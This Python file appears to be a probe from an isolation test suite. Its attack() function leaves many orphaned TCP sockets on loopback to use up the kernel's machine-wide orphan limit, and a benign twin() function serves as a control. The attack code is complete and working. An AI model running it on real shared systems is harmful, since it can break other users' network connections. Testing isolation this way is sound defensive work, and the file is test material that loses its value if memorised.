"""Leave connections that belong to nobody.

Technique: a connection closed with data under way that the other side does not take lives on without a process. The kernel
    allows so many of them on the whole machine (net.ipv4.tcp_max_orphans), then breaks off everybody's.
Success: an eighth of the machine's orphans are here.
Stopped by: memory_cgroup
Held when: refused or limit memory
Not promised: The kernel has one bound for all connections of the machine, and none for those of one network.
"""
import socket


def orphans():
    with open("/proc/net/sockstat") as file:
        words = [line for line in file if line.startswith("TCP:")][0].split()
    return int(words[words.index("orphan") + 1])


def attack():
    # The kernel's default: one for each 64 KB of memory, at most 262,144.
    with open("/proc/meminfo") as file:
        allowed = min(262_144, int(file.readline().split()[1]) // 64)
    allowed = min(allowed, 65_536)
    before, servers = orphans(), []
    for number in range(allowed // 8 + 200):
        if number % 4000 == 0:
            servers.append(socket.create_server(("127.0.0.1", 0), backlog=4096))
            servers[-1].setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2048)
        client = socket.socket()
        client.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 8192)
        client.settimeout(1)
        client.connect(servers[-1].getsockname())
        client.setblocking(False)
        try:
            while client.send(bytes(16384)):
                pass
        except BlockingIOError:
            pass
        client.close()
    grown = orphans() - before
    return f"{grown} orphans here" if grown >= allowed // 8 else None


def twin():
    """A client that sends and closes at once; everything arrives."""
    with socket.create_server(("127.0.0.1", 0)) as server:
        with socket.create_connection(server.getsockname()) as client:
            client.sendall(bytes(1 << 16))
        connection, received = server.accept()[0], 0
        while chunk := connection.recv(1 << 16):
            received += len(chunk)
        assert received == 1 << 16
